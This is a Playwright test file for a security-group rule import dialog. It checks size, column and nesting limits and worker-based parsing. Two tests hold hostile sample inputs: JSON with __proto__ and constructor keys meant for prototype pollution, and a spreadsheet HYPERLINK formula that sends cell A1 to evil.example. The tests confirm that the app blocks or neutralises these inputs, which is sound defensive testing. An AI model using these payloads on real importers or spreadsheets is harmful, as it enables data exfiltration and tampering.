import { open, readFile, writeFile } from 'node:fs/promises';
import { expect, test, type Locator, type Page, type TestInfo } from '@playwright/test';
import { inbound, openGroup } from '../support/snapshot-steps.ts';

/** prod-web-sg of the demo world: 6 rules. */
const RULES_BEFORE = 'Rules: 6 / 200';
const SSH = { Direction: 'ingress', IpProtocol: 'TCP', PortRange: '2222/2222', SourceCidrIp: '10.9.0.0/16' };

type Chosen = string | { name: string; mimeType: string; buffer: Buffer };

/**
 * Counts, on the page's own thread, every way a script can read a file's bytes, and every worker the page starts.
 * The dialog may read a file only inside its worker.
 */
async function watchFileReads(page: Page): Promise<{ workers: () => number }> {
  await page.addInitScript(() => {
    const counted = window as unknown as { mainThreadReads: number };
    counted.mainThreadReads = 0;
    const wrap = (proto: object, names: string[]) => {
      for (const name of names) {
        const original = (proto as Record<string, unknown>)[name];
        if (typeof original !== 'function') continue;
        Object.defineProperty(proto, name, {
          value(this: unknown, ...args: unknown[]) {
            counted.mainThreadReads++;
            return (original as (...a: unknown[]) => unknown).apply(this, args);
          },
        });
      }
    };
    wrap(Blob.prototype, ['text', 'arrayBuffer', 'stream', 'bytes']);
    wrap(FileReader.prototype, ['readAsText', 'readAsArrayBuffer', 'readAsDataURL', 'readAsBinaryString']);
  });
  let workers = 0;
  page.on('worker', () => workers++);
  return { workers: () => workers };
}

const mainThreadReads = (page: Page) =>
  page.evaluate(() => (window as unknown as { mainThreadReads: number }).mainThreadReads);

/** Opens "Import Security Group Rule" and picks the file (a path, or a name with bytes) through "Select a file". */
async function selectFile(page: Page, file: Chosen): Promise<Locator> {
  await page.getByRole('button', { name: 'Import Security Group Rule' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import Security Group Rule' });
  const choosing = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Select a file' }).click();
  await (await choosing).setFiles(file);
  return dialog;
}

/**
 * Asks the page `1` again and again until its dialog shows `text`; returns the slowest answer in milliseconds. A
 * page whose thread is busy parsing cannot answer. The dialog is looked at with a bare querySelector, not a
 * locator: Playwright's role queries run on the page's thread too, and cost it hundreds of milliseconds here.
 */
async function slowestAnswerUntil(page: Page, text: string): Promise<number> {
  let slowest = 0;
  const shows = () =>
    page.evaluate((t) => document.querySelector('[role="dialog"]')?.textContent?.includes(t) ?? false, text);
  for (let deadline = Date.now() + 20_000; Date.now() < deadline;) {
    const started = Date.now();
    await page.evaluate(() => 1);
    slowest = Math.max(slowest, Date.now() - started);
    if (await shows()) return slowest;
  }
  throw new Error(`The dialog never showed ${text}`);
}

/** Nothing was written: the group still has its rules, after a reload from IndexedDB. */
async function expectNothingWritten(page: Page) {
  await page.reload();
  await expect(page.getByText(RULES_BEFORE)).toBeVisible();
}

const json = (name: string, text: string) => ({ name, mimeType: 'application/json', buffer: Buffer.from(text) });

/**
 * A big file goes to the browser by path, as a user's pick does: a file given as bytes is rebuilt by Playwright's
 * script on the page's own thread (2 s for 2 MB here), which would be measured as the page's slowness.
 */
async function fileOnDisk(testInfo: TestInfo, name: string, text: string): Promise<string> {
  const path = testInfo.outputPath(name);
  await writeFile(path, text);
  return path;
}

test('a CSV header of 260,000 columns is refused with its bound, parsed in a worker while the page answers', async ({
  page,
}, testInfo) => {
  const watch = await watchFileReads(page);
  await openGroup(page, 'prod-web-sg');
  await expect(page.getByText(RULES_BEFORE)).toBeVisible();
  const header = `Direction,${Array.from({ length: 259_999 }, (_, i) => `c${i}`).join(',')}`;
  const text = `${header}\r\ningress\r\n`;
  expect(text.length).toBeGreaterThan(1_900_000);
  const dialog = await selectFile(page, await fileOnDisk(testInfo, 'wide.csv', text));
  const alert = dialog.getByRole('alert');
  expect(await slowestAnswerUntil(page, 'InvalidImportFile.TooManyColumns')).toBeLessThan(1000);
  await expect(alert).toContainText('InvalidImportFile.TooManyColumns');
  await expect(alert).toContainText('Line 1 has more than 64 cells; a rule file has at most 64 columns.');
  await expect(dialog.getByRole('button', { name: 'Start' })).toBeDisabled();
  expect(watch.workers()).toBe(1);
  expect(await mainThreadReads(page)).toBe(0);
  await expectNothingWritten(page);
});

test('a 500 MB file is refused by its size at once, never read', async ({ page }, testInfo) => {
  const watch = await watchFileReads(page);
  // Sparse: 500 MB long, no disk used; handed to the browser by path, as a user's pick is.
  const path = testInfo.outputPath('huge.csv');
  const handle = await open(path, 'w');
  await handle.truncate(500 * 1024 * 1024);
  await handle.close();
  await openGroup(page, 'prod-web-sg');
  const dialog = await selectFile(page, path);
  const alert = dialog.getByRole('alert');
  expect(await slowestAnswerUntil(page, 'InvalidImportFile.TooLarge')).toBeLessThan(1000);
  await expect(alert).toContainText('InvalidImportFile.TooLarge');
  await expect(alert).toContainText('The file is 500 MB; at most 2 MB can be imported');
  await expect(dialog.getByText('huge.csv')).toBeVisible();
  expect(watch.workers()).toBe(0);
  expect(await mainThreadReads(page)).toBe(0);
  await expectNothingWritten(page);
});

test('JSON nested 100,000 deep is refused with its bound', async ({ page }, testInfo) => {
  const watch = await watchFileReads(page);
  await openGroup(page, 'prod-web-sg');
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  const dialog = await selectFile(page, await fileOnDisk(testInfo, 'deep.json', deep));
  const alert = dialog.getByRole('alert');
  expect(await slowestAnswerUntil(page, 'InvalidImportFile.TooDeep')).toBeLessThan(1000);
  await expect(alert).toContainText('InvalidImportFile.TooDeep');
  await expect(alert).toContainText('more than 8 levels deep');
  expect(watch.workers()).toBe(1);
  expect(await mainThreadReads(page)).toBe(0);
  await expectNothingWritten(page);
});

test('__proto__, constructor and prototype keys make their rows invalid and pollute nothing', async ({ page }) => {
  await openGroup(page, 'prod-web-sg');
  await expect(page.getByText(RULES_BEFORE)).toBeVisible();
  const text = `[{"__proto__":{"polluted":"yes","Direction":"egress"},"Direction":"ingress","IpProtocol":"TCP","PortRange":"1/1","SourceCidrIp":"10.0.0.0/8"},
    {"constructor":{"prototype":{"polluted":"yes"}},"Direction":"ingress"},
    ${JSON.stringify(SSH)}]`;
  const dialog = await selectFile(page, json('proto.json', text));
  const rows = dialog.getByRole('table', { name: 'Import preview' }).locator('tbody tr');
  await expect(rows).toHaveCount(3);
  await expect(rows.nth(0)).toContainText('The key "__proto__" is not allowed in a rule.');
  await expect(rows.nth(1)).toContainText('The key "constructor" is not allowed in a rule.');
  await expect(rows.nth(2)).toContainText('Ready');
  await dialog.getByRole('button', { name: 'Start' }).click();
  await expect(dialog.getByRole('list', { name: 'Rows per class' })).toContainText('Imported: 1');
  expect(await page.evaluate(() => ({}) as Record<string, unknown>)).toEqual({});
  expect(await page.evaluate(() => Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'))).toBe(false);
  await dialog.getByRole('button', { name: 'Finish and Close' }).click();

  // A CSV column named __proto__ is just as unknown.
  const csv = { name: 'proto.csv', mimeType: 'text/csv', buffer: Buffer.from('Direction,__proto__\r\ningress,x\r\n') };
  const csvDialog = await selectFile(page, csv);
  await expect(csvDialog.getByRole('table', { name: 'Import preview' })).toContainText('is not allowed in a rule');
  await expect(csvDialog.getByRole('button', { name: 'Start' })).toBeDisabled();
  await page.reload();
  await expect(page.getByText('Rules: 7 / 200')).toBeVisible();
  await expect(inbound(page).getByRole('row', { name: /2222\/2222/ })).toHaveCount(1);
});

test('a CSV export neutralises a formula description', async ({ page }) => {
  await openGroup(page, 'prod-web-sg');
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
  const dialog = await selectFile(page, json('formula.json', JSON.stringify([{ ...SSH, Description: formula }])));
  await dialog.getByRole('button', { name: 'Start' }).click();
  await dialog.getByRole('button', { name: 'Finish and Close' }).click();
  await expect(inbound(page).getByRole('row', { name: /2222\/2222/ })).toContainText(formula);

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'Export to CSV' }).click();
  const download = await downloading;
  const text = (await readFile((await download.path())!)).toString('utf8');
  const line = text.split('\r\n').find((l) => l.includes('2222/2222'))!;
  // Quoted for its commas and quotes; inside, a leading ' keeps a spreadsheet from reading a formula.
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
  expect(line).not.toMatch(/(^|,)"?=/);
});
